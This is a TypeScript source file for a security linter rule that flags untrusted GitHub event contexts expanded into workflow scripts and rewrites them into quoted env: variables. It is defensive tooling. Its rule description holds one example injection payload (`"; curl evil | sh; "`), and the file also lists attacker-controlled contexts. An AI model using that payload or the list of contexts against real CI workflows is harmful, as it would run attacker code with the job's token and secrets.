import { isScalar, Scalar } from 'yaml';
import { deferredYamlFix, escapeForStyle, quotingAtExpressions, rewriteScalar, variableReference, yamlFix } from '../../fix/workflow.js';
import type { YamlEditor } from '../../fix/yaml-edit.js';
import { lineIndexOf } from '../../parse.js';
import { mappingOf, stringOf } from '../../support/data.js';
import { type Fix, type Location, type YamlDocument, defineRule } from '../../types.js';
import { type GithubStep, type YamlPath, expressions, githubSteps } from './_support.js';
import { oncePer } from '../../../util/memo.js';

/** Contexts an outsider controls (after actionlint's list of untrusted inputs). `*` stands for an array index or key. */
const UNTRUSTED = [
  'github.head_ref',
  'github.event.issue.title',
  'github.event.issue.body',
  'github.event.pull_request.title',
  'github.event.pull_request.body',
  'github.event.pull_request.head.ref',
  'github.event.pull_request.head.label',
  'github.event.pull_request.head.repo.default_branch',
  'github.event.comment.body',
  'github.event.review.body',
  'github.event.review_comment.body',
  'github.event.discussion.title',
  'github.event.discussion.body',
  'github.event.pages.*.page_name',
  'github.event.commits.*.message',
  'github.event.commits.*.author.email',
  'github.event.commits.*.author.name',
  'github.event.head_commit.message',
  'github.event.head_commit.author.email',
  'github.event.head_commit.author.name',
  'github.event.head_commit.committer.email',
  'github.event.head_commit.committer.name',
  'github.event.workflow_run.head_branch',
  'github.event.workflow_run.display_title',
  'github.event.workflow_run.head_commit.message',
  'github.event.workflow_run.head_commit.author.email',
  'github.event.workflow_run.head_commit.author.name',
  'github.event.workflow_run.pull_requests.*.head.ref',
  'github.event.changes.new_discussion.labels.*.name',
  'github.event.label.name',
].map((context) => new RegExp(`\\b${context.replace(/\./g, '\\.').replace(/\\\.\*\\\./g, '(?:\\.\\*|\\[[^\\]]+\\]|\\.\\d+)\\.')}\\b`));

export function untrustedContext(expression: string): string | undefined {
  for (const pattern of UNTRUSTED) {
    const match = pattern.exec(expression);
    if (match) return match[0];
  }
  return undefined;
}

export const scriptInjection = defineRule({
  id: 'workflow/script-injection',
  area: 'workflow',
  severity: 'high',
  title: 'Untrusted input expanded into a script',
  why:
    '`${{ }}` is substituted into the script text before the shell runs it, so a pull request title like `"; curl evil | sh; "` becomes code running with the job\'s token and secrets.',
  detect:
    'A `${{ … }}` expression in a `run:` script, or in an input that an action runs as code (actions/github-script `script`, mikefarah/yq `cmd`, azure/cli `inlineScript`…), that reads a context an outsider controls: issue, pull request, comment, review and discussion titles and bodies, commit messages and authors, branch names (github.head_ref, head.ref, workflow_run.head_branch), page names.',
  fix: 'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
  refs: ['zizmor:template-injection'],
  fixable: true,
  check({ repo, report }) {
    for (const step of githubSteps(repo)) {
      for (const input of codeInputs(step)) {
        let fix: Fix | { reason: string } | undefined;
        for (const { expression, offset } of expressions(input.text)) {
          const context = untrustedContext(expression);
          if (!context) continue;
          fix ??= input.what === 'the script' ? envFix(step, input.text) : { reason: `${input.what} is not a shell script` };
          const message = `${context} is expanded into ${input.what} of job ${step.job.id}; pass it through env: instead`;
          report({
            location: locateInScalar(step.document, input.path, input.text, offset),
            message,
            ...('reason' in fix ? { noFix: fix.reason } : { fix }),
          });
        }
      }
    }
  },
});

/**
 * Moves every untrusted `${{ … }}` of a step's script into the step's `env:`, one variable per
 * expression, and refers to it from the script with the quoting the expression stood in: `$VAR`
 * inside double quotes (where the text substitution already was one word), `"$VAR"` elsewhere
 * (a caveat: a value with spaces is now one word), `'"$VAR"'` inside single quotes. The rest of the
 * script is left byte for byte.
 */
function envFix(step: GithubStep, script: string): Fix | { reason: string } {
  const workflow = mappingOf(step.document.data);
  const shell =
    stringOf(step.step.shell) ?? stringOf(mappingOf(mappingOf(step.job.job.defaults).run).shell) ?? stringOf(mappingOf(mappingOf(workflow.defaults).run).shell);
  if (shell !== undefined && !/^(?:bash|sh)\b/.test(shell)) return { reason: 'the step does not run in bash or sh' };
  if (shell === undefined && /windows/i.test(JSON.stringify([step.job.job['runs-on'] ?? '', mappingOf(step.job.job.strategy).matrix ?? '']))) {
    return { reason: 'the job may run on Windows, whose default shell is PowerShell' };
  }
  if (script.includes('<<')) return { reason: 'the script has a heredoc, where quotes are written out literally' };

  const occurrences = quotingAtExpressions(script);
  const stepEnv = mappingOf(step.step.env);
  const taken = new Set([...Object.keys(mappingOf(workflow.env)), ...Object.keys(mappingOf(step.job.job.env)), ...Object.keys(stepEnv)]);
  for (const match of script.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) taken.add(match[1]!);
  const names = new Map<string, string>();
  const added: Record<string, string> = {};
  for (const { raw } of occurrences) {
    const inner = raw.slice(3, -2).trim();
    const context = untrustedContext(inner);
    if (!context || names.has(inner)) continue;
    const reuse = Object.entries(stepEnv).find(([, value]) => typeof value === 'string' && /^\$\{\{([\s\S]*)\}\}$/.exec(value.trim())?.[1]?.trim() === inner)?.[0];
    const name = reuse ?? uniqueName(variableName(context), taken);
    taken.add(name);
    names.set(inner, name);
    if (!reuse) added[name] = `\${{ ${inner} }}`;
  }
  const replacement = (raw: string, quote: Parameters<typeof variableReference>[1], next: string | undefined) => {
    const name = names.get(raw.slice(3, -2).trim());
    return name === undefined ? raw : variableReference(name, quote, next);
  };
  let expected = '';
  let from = 0;
  for (const { raw, offset, quote } of occurrences) {
    expected += script.slice(from, offset) + replacement(raw, quote, script[offset + raw.length]);
    from = offset + raw.length;
  }
  expected += script.slice(from);
  const unquoted = occurrences.some(({ raw, quote }) => quote === 'none' && names.has(raw.slice(3, -2).trim()));
  const list = [...names.values()].join(', ');
  const path = [...step.path, 'run'];
  const envPath = [...step.path, 'env'];
  const description = `move the untrusted expressions of the script in job ${step.job.id} into env: ${list}`;
  const caveat = unquoted
    ? `An expression that stood unquoted in the script is now "$VAR", one word: a value with spaces is no longer split into several arguments; check the command (${list}).`
    : undefined;
  const change = (editor: YamlEditor) => {
    rewriteScalar(
      editor,
      path,
      (source, style) => {
        const inSource = [...expressions(source)];
        if (inSource.length !== occurrences.length || inSource.some((found, i) => found.raw !== occurrences[i]!.raw)) return source;
        let out = '';
        let at = 0;
        inSource.forEach((found, i) => {
          const { raw, offset, quote } = occurrences[i]!;
          out += source.slice(at, found.offset) + escapeForStyle(replacement(raw, quote, script[offset + raw.length]), style);
          at = found.offset + found.raw.length;
        });
        return out + source.slice(at);
      },
      expected,
    );
    if (Object.keys(added).length > 0) editor.set(envPath, added, { before: ['run'] });
  };
  // In a literal block (`run: |`) the source is the value, line for line: with the same expressions
  // in both, putting "$VAR" in place of each one reads as intended, so the edits can wait until
  // they are read. Any other style is rewritten and parsed back now (quotes, folding, escapes).
  const fix = isLiteralBlockWith(step.document, path, occurrences)
    ? deferredYamlFix(step.document, description, [path, envPath], change, caveat)
    : yamlFix(step.document, description, change, caveat);
  return fix ?? { reason: 'the script could not be rewritten in place' };
}

/** Whether the scalar at `path` is a literal block whose source holds exactly these expressions, in order. */
function isLiteralBlockWith(document: YamlDocument, path: YamlPath, occurrences: readonly { readonly raw: string }[]): boolean {
  const node = document.document.getIn(path, true);
  if (!isScalar(node) || node.type !== Scalar.BLOCK_LITERAL || !node.range) return false;
  const inSource = [...expressions(document.file.text.slice(node.range[0], node.range[1]))];
  return inSource.length === occurrences.length && inSource.every((found, i) => found.raw === occurrences[i]!.raw);
}

/** ISSUE_TITLE for github.event.issue.title, HEAD_REF for github.head_ref. */
function variableName(context: string): string {
  const parts = context.split(/[.[\]]+/).filter((part) => part !== '' && part !== '*' && !/^\d+$/.test(part) && part !== 'github' && part !== 'event');
  return parts.slice(-2).join('_').toUpperCase().replace(/[^A-Z0-9_]/g, '_') || 'UNTRUSTED_INPUT';
}

function uniqueName(base: string, taken: ReadonlySet<string>): string {
  if (!taken.has(base)) return base;
  for (let n = 2; ; n++) if (!taken.has(`${base}_${n}`)) return `${base}_${n}`;
}

/** Action inputs that the action runs as code: an expression there is script injection too. */
const CODE_INPUTS: Readonly<Record<string, readonly string[]>> = {
  'actions/github-script': ['script'],
  'mikefarah/yq': ['cmd'],
  'azure/cli': ['inlinescript'],
  'azure/powershell': ['inlinescript'],
  'addnab/docker-run-action': ['run'],
};

function* codeInputs(step: GithubStep): Generator<{ text: string; path: YamlPath; what: string }> {
  if (step.run !== undefined) yield { text: step.run, path: [...step.path, 'run'], what: 'the script' };
  for (const input of CODE_INPUTS[step.action ?? ''] ?? []) {
    const text = stringOf(step.with[input]);
    if (text !== undefined) yield { text, path: [...step.path, 'with', input], what: `${step.action}'s ${input}` };
  }
}

/**
 * The position of an expression inside a (possibly block) scalar: found in the source text of the
 * node, so a finding points at the line of a multi-line script that holds it.
 */
function locateInScalar(document: YamlDocument, path: YamlPath, value: string, offset: number): Location {
  const whole = document.locate(path);
  const node = document.document.getIn(path, true);
  // `value` is the scalar's own value (the script read from the data); anything else is located as a whole.
  if (!isScalar(node) || !node.range || node.value !== value) return whole;
  const at = expressionSources(document)(node)(offset);
  if (at === undefined) return whole;
  const needle = value.slice(offset, value.indexOf('}}', offset) + 2);
  return lineIndexOf(document.file).location(document.file.path, node.range[0] + at, node.range[0] + at + needle.length - 1);
}

/** Scalars with more expressions than this are mapped by rank (see sourceOffsets). */
const FEW_EXPRESSIONS = 64;

/** Each string scalar's sourceOffsets, worked out once per scalar of the document. */
const expressionSources = oncePer((document: YamlDocument) =>
  oncePer((node: Scalar) => sourceOffsets(document.file.text.slice(node.range![0], node.range![1]), node.value as string)),
);

/**
 * Where an expression of a scalar's value sits in its source. With few expressions, the n-th
 * occurrence of the same text in the source (an expression can repeat). With many (a hostile
 * script of 19,000, where searching per expression took 12 s), the n-th expression of the value
 * is the n-th of the source when both have as many, which holds for plain and block scalars;
 * otherwise the finding points at the whole scalar.
 */
function sourceOffsets(source: string, value: string): (offset: number) => number | undefined {
  const inValue = openings(value);
  if (inValue.length <= FEW_EXPRESSIONS) return (offset) => nthOccurrence(source, value, offset);
  const inSource = openings(source);
  const rankOf = new Map(inValue.map((offset, rank) => [offset, rank]));
  return (offset) => {
    const rank = rankOf.get(offset);
    return inSource.length === inValue.length && rank !== undefined ? inSource[rank] : undefined;
  };
}

/** Offsets of the text's expressions, as `expressions` finds them. */
function openings(text: string): number[] {
  return Array.from(expressions(text), (expression) => expression.offset);
}

/** The expression at `offset` of the value, found in the source as the same occurrence of its text. */
function nthOccurrence(source: string, value: string, offset: number): number | undefined {
  const needle = value.slice(offset, value.indexOf('}}', offset) + 2);
  let nth = 0;
  for (let i = value.indexOf(needle); i >= 0 && i < offset; i = value.indexOf(needle, i + 1)) nth++;
  let at = source.indexOf(needle);
  for (let n = 0; n < nth && at >= 0; n++) at = source.indexOf(needle, at + 1);
  return at < 0 ? undefined : at;
}
